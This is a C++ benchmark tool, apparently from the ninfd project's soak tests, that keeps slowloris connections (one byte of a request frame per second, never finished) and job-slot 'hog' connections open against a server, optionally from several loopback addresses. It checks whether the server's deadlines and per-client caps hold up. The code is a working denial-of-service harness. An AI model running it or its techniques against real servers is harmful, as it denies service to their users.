// attack.cc - the attacks of bench/soak.sh, kept up against a running ninfd
// until SIGTERM or SIGINT, so that a good client can be measured meanwhile.
//
//     attack [-server host[:port]] [-port n] [--slowloris N] [--hogs N]
//            [--sources K] [--function NAME] [--ready-file FILE]
//
// The server is NINF_SERVER (or -server/-port), an IPv4 address or name.
//
// slowloris (1000): raw TCP connections that send one byte of a valid CALL
//   frame per second and never its last byte, so no request ever completes.
//   One that ninfd closes (request deadline, per-address cap) is opened again
//   at the next second, as a real slowloris tool does.
// hogs (2): the F1 attack of tests/e2e/abuse_test.cc: a complete CALL of
//   NAME (default echo, which takes input arguments), then silence; each holds
//   a job slot until ninfd's transfer deadline ends it, and is opened again
//   at once, so that the slots are taken back as soon as they are freed.
// sources (0): 0 connects from whatever address the kernel picks
//   (127.0.0.1 for a loopback server: the good client's address, where
//   max_connections_per_client applies); K > 0 binds socket i to
//   127.0.0.(2 + i % K) first, so the attack comes from K other addresses.
//
// Once every socket has connected once and every hog has sent its CALL, it
// writes "established" into FILE and prints `attack established ...`; every
// 5 s a line of counters, and at exit
//   attack done seconds=.. slowloris_opened=.. slowloris_closed=..
//                hogs_opened=.. hogs_closed=.. open=..
// (closed = closed by the server).
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "ninf.pb.h"
#include "protocol/address.h"
#include "protocol/frame.h"

namespace {

volatile sig_atomic_t g_stop = 0;

void OnSignal(int) { g_stop = 1; }

double Now() {
  timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + 1e-9 * static_cast<double>(ts.tv_nsec);
}

struct Options {
  ninf::HostPort server{"localhost", 3000};
  int slowloris = 1000;
  int hogs = 2;
  int sources = 0;
  std::string function = "echo";
  std::string ready_file;
};

enum class Kind { kSlowloris, kHog };

// One attacking socket. fd < 0: closed, to be opened again (a hog at once,
// a slowloris at the next tick).
struct Attacker {
  Kind kind;
  int index;  // picks the source address
  int fd = -1;
  bool connected = false;
  bool ever_connected = false;
  std::size_t sent = 0;  // bytes of the CALL frame written
};

struct Counters {
  long slowloris_opened = 0, slowloris_closed = 0;
  long hogs_opened = 0, hogs_closed = 0;
};

class Attack {
 public:
  Attack(const Options &opt, sockaddr_in server, std::string frame)
      : opt_(opt), server_(server), frame_(std::move(frame)) {
    for (int i = 0; i < opt.hogs; ++i) attackers_.push_back({Kind::kHog, i});
    for (int i = 0; i < opt.slowloris; ++i) attackers_.push_back({Kind::kSlowloris, opt.hogs + i});
  }
  int Run();

 private:
  bool Open(Attacker &a);
  void Close(Attacker &a, bool by_server);
  void OnConnected(Attacker &a);
  void OnEvents(Attacker &a, short revents);
  void Tick();
  bool Established() const;
  void Print(const char *what, double start) const;

  const Options &opt_;
  sockaddr_in server_;
  std::string frame_;  // the whole CALL frame
  std::vector<Attacker> attackers_;
  Counters n_;
};

// A non-blocking connect, from 127.0.0.(2 + index % sources) when sources
// > 0. False when the socket could not even be started (out of descriptors,
// ports): the attacker stays closed and is tried again later.
bool Attack::Open(Attacker &a) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return false;
  if (opt_.sources > 0) {
    sockaddr_in from{};
    from.sin_family = AF_INET;
    from.sin_addr.s_addr =
        htonl(INADDR_LOOPBACK + 1 + static_cast<uint32_t>(a.index % opt_.sources));
    if (::bind(fd, reinterpret_cast<sockaddr *>(&from), sizeof from) != 0) {
      ::close(fd);
      return false;
    }
  }
  if (::connect(fd, reinterpret_cast<const sockaddr *>(&server_), sizeof server_) != 0 &&
      errno != EINPROGRESS) {
    ::close(fd);
    return false;
  }
  a.fd = fd;
  a.connected = false;
  a.sent = 0;
  ++(a.kind == Kind::kHog ? n_.hogs_opened : n_.slowloris_opened);
  return true;
}

void Attack::Close(Attacker &a, bool by_server) {
  ::close(a.fd);
  a.fd = -1;
  if (by_server) ++(a.kind == Kind::kHog ? n_.hogs_closed : n_.slowloris_closed);
}

// A hog sends its whole CALL at once, a slowloris its first byte.
void Attack::OnConnected(Attacker &a) {
  a.connected = a.ever_connected = true;
  std::size_t want = a.kind == Kind::kHog ? frame_.size() : 1;
  ssize_t n = ::send(a.fd, frame_.data(), want, MSG_NOSIGNAL | MSG_DONTWAIT);
  if (n > 0) a.sent = static_cast<std::size_t>(n);
}

// Whatever ninfd sends (an ERROR, heartbeats of a queued hog) is read away;
// end of stream or an error means the server closed the connection.
void Attack::OnEvents(Attacker &a, short revents) {
  if (!a.connected) {
    int err = 0;
    socklen_t len = sizeof err;
    ::getsockopt(a.fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err != 0) return Close(a, true);
    if (revents & POLLOUT) OnConnected(a);
    if (!(revents & (POLLIN | POLLHUP | POLLERR | POLLRDHUP))) return;
  }
  char sink[4096];
  for (;;) {
    ssize_t n = ::recv(a.fd, sink, sizeof sink, MSG_DONTWAIT);
    if (n > 0) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return;
    return Close(a, true);
  }
}

// Once a second: every slowloris sends one more byte (never the last), and
// the closed ones are opened again.
void Attack::Tick() {
  for (Attacker &a : attackers_) {
    if (a.kind != Kind::kSlowloris) continue;
    if (a.fd < 0) {
      Open(a);
    } else if (a.connected && a.sent + 1 < frame_.size()) {
      if (::send(a.fd, frame_.data() + a.sent, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) ++a.sent;
    }
  }
}

// Every socket has connected once and every hog has its CALL in. Not every
// slowloris open at once: from one address ninfd keeps only
// max_connections_per_client of them, which is the defence at work.
bool Attack::Established() const {
  for (const Attacker &a : attackers_) {
    if (!a.ever_connected) return false;
    if (a.kind == Kind::kHog && (a.fd < 0 || a.sent < frame_.size())) return false;
  }
  return true;
}

void Attack::Print(const char *what, double start) const {
  int open = 0;
  for (const Attacker &a : attackers_) open += a.fd >= 0;
  std::printf(
      "attack %s seconds=%.1f slowloris_opened=%ld slowloris_closed=%ld hogs_opened=%ld "
      "hogs_closed=%ld open=%d\n",
      what, Now() - start, n_.slowloris_opened, n_.slowloris_closed, n_.hogs_opened, n_.hogs_closed,
      open);
  std::fflush(stdout);
}

int Attack::Run() {
  const double start = Now();
  double next_tick = start, next_print = start + 5;
  bool established = false;
  std::vector<pollfd> fds;
  std::vector<Attacker *> owners;
  while (!g_stop) {
    if (Now() >= next_tick) {
      Tick();
      next_tick += 1.0;
    }
    for (Attacker &a : attackers_)
      if (a.kind == Kind::kHog && a.fd < 0) Open(a);  // take the slot back at once
    fds.clear();
    owners.clear();
    for (Attacker &a : attackers_) {
      if (a.fd < 0) continue;
      short events = POLLIN | POLLRDHUP | (a.connected ? 0 : POLLOUT);
      fds.push_back({a.fd, events, 0});
      owners.push_back(&a);
    }
    int wait_ms = static_cast<int>((next_tick - Now()) * 1e3);
    int ready = ::poll(fds.data(), fds.size(), wait_ms < 0 ? 0 : wait_ms > 100 ? 100 : wait_ms);
    for (std::size_t i = 0; ready > 0 && i < fds.size(); ++i)
      if (fds[i].revents) OnEvents(*owners[i], fds[i].revents);
    if (!established && Established()) {
      established = true;
      Print("established", start);
      if (FILE *f = opt_.ready_file.empty() ? nullptr : std::fopen(opt_.ready_file.c_str(), "we")) {
        std::fputs("established\n", f);
        std::fclose(f);
      }
    }
    if (Now() >= next_print) {
      Print("running", start);
      next_print += 5;
    }
  }
  Print("done", start);
  for (Attacker &a : attackers_)
    if (a.fd >= 0) Close(a, false);
  return 0;
}

// 1,000 sockets and more: the soft descriptor limit goes up to what is needed.
bool RaiseFdLimit(rlim_t want) {
  rlimit r{};
  if (::getrlimit(RLIMIT_NOFILE, &r) != 0) return false;
  if (r.rlim_cur >= want) return true;
  if (r.rlim_max != RLIM_INFINITY && r.rlim_max < want) return false;
  r.rlim_cur = want;
  return ::setrlimit(RLIMIT_NOFILE, &r) == 0;
}

bool Resolve(const ninf::HostPort &hp, sockaddr_in *out) {
  addrinfo hints{};
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo *res = nullptr;
  if (::getaddrinfo(hp.host.c_str(), nullptr, &hints, &res) != 0 || !res) return false;
  *out = *reinterpret_cast<sockaddr_in *>(res->ai_addr);
  out->sin_port = htons(static_cast<uint16_t>(hp.port));
  ::freeaddrinfo(res);
  return true;
}

int Usage() {
  std::fprintf(stderr,
               "usage: attack [-server host[:port]] [-port n] [--slowloris N] [--hogs N] "
               "[--sources K] [--function NAME] [--ready-file FILE]\n");
  return 2;
}

// Options over NINF_SERVER; false on anything unknown or out of range.
bool ParseOptions(int argc, char **argv, Options *opt) {
  const char *env = std::getenv("NINF_SERVER");
  if (env && !ninf::ParseHostPort(env, opt->server, &opt->server).ok()) return false;
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    if (i + 1 >= argc) return false;
    const char *value = argv[++i];
    if (arg == "-server") {
      if (!ninf::ParseHostPort(value, opt->server, &opt->server).ok()) return false;
    } else if (arg == "-port") {
      if (!ninf::ParsePort(value, &opt->server.port)) return false;
    } else if (arg == "--slowloris") {
      opt->slowloris = std::atoi(value);
    } else if (arg == "--hogs") {
      opt->hogs = std::atoi(value);
    } else if (arg == "--sources") {
      opt->sources = std::atoi(value);
    } else if (arg == "--function") {
      opt->function = value;
    } else if (arg == "--ready-file") {
      opt->ready_file = value;
    } else {
      return false;
    }
  }
  return opt->slowloris >= 0 && opt->hogs >= 0 && opt->sources >= 0 && opt->sources <= 250;
}

}  // namespace

int main(int argc, char **argv) {
  Options opt;
  if (!ParseOptions(argc, argv, &opt)) return Usage();
  sockaddr_in server{};
  if (!Resolve(opt.server, &server)) {
    std::fprintf(stderr, "attack: cannot resolve %s\n", opt.server.host.c_str());
    return 1;
  }
  if (!RaiseFdLimit(static_cast<rlim_t>(opt.slowloris + opt.hogs) + 64)) {
    std::fprintf(stderr, "attack: cannot raise the descriptor limit to %d\n",
                 opt.slowloris + opt.hogs + 64);
    return 1;
  }
  ninf::wire::CallRequest call;
  call.set_name(opt.function);
  call.set_call_id(1);
  std::string frame;
  ninf::AppendFrame(&frame, ninf::FRAME_CALL, &call);
  struct sigaction sa {};
  sa.sa_handler = OnSignal;
  ::sigaction(SIGTERM, &sa, nullptr);
  ::sigaction(SIGINT, &sa, nullptr);
  Attack attack(opt, server, std::move(frame));
  return attack.Run();
}
